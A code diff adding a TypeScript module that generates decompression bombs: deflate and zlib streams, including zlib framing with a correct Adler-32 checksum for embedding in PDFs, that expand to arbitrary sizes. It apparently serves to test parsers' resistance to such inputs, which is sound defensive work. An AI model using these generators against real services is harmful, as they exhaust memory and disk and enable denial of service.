@@ -1,0 +1,56 @@
+import { constants, deflateRawSync } from 'node:zlib'
+
+export type Bomb = {
+  readonly opening?: string
+  /** Said over and over: a million bytes of it at a time. */
+  readonly unit: string | Buffer
+  readonly closing?: string
+  /** Bytes of all the repetitions together, rounded to millions. */
+  readonly size: number
+}
+
+const mega = 1_000_000
+const base = 65_521
+
+type Sum = { readonly low: number; readonly high: number; readonly length: number }
+
+const sumOf = (bytes: Buffer): Sum => {
+  let low = 1
+  let high = 0
+  for (const byte of bytes) {
+    low = (low + byte) % base
+    high = (high + low) % base
+  }
+  return { low, high, length: bytes.length }
+}
+
+/** The checksum of two stretches, one after the other, from those of each. */
+const follow = (first: Sum, second: Sum): Sum => ({
+  low: (first.low + second.low - 1 + base) % base,
+  high: (first.high + second.high + second.length * (first.low - 1 + base)) % base,
+  length: first.length + second.length,
+})
+
+const unitOf = ({ unit }: Bomb): Buffer => Buffer.alloc(mega, unit)
+export const bombSize = ({ opening = '', closing = '', size }: Bomb): number =>
+  opening.length + Math.max(1, Math.round(size / mega)) * mega + closing.length
+
+/** Deflate data that becomes as large as wanted: 1 KB for each million bytes, made without ever holding what it becomes. */
+export const deflateBomb = (bomb: Bomb): Buffer => {
+  const part = (content: string | Buffer) => deflateRawSync(content, { level: 9, finishFlush: constants.Z_FULL_FLUSH })
+  const repeated = part(unitOf(bomb))
+  const times = Math.max(1, Math.round(bomb.size / mega))
+  return Buffer.concat([part(bomb.opening ?? ''), ...Array.from({ length: times }, () => repeated), deflateRawSync(bomb.closing ?? '')])
+}
+
+/** The same with the frame of zlib and a right checksum, as PDF wants it. */
+export const zlibBomb = (bomb: Bomb): Buffer => {
+  const unit = sumOf(unitOf(bomb))
+  let sum = sumOf(Buffer.from(bomb.opening ?? ''))
+  for (let times = Math.max(1, Math.round(bomb.size / mega)); times > 0; times -= 1) sum = follow(sum, unit)
+  sum = follow(sum, sumOf(Buffer.from(bomb.closing ?? '')))
+  const end = Buffer.alloc(4)
+  end.writeUInt16BE(sum.high, 0)
+  end.writeUInt16BE(sum.low, 2)
+  return Buffer.concat([Buffer.from([0x78, 0xda]), deflateBomb(bomb), end])
+}
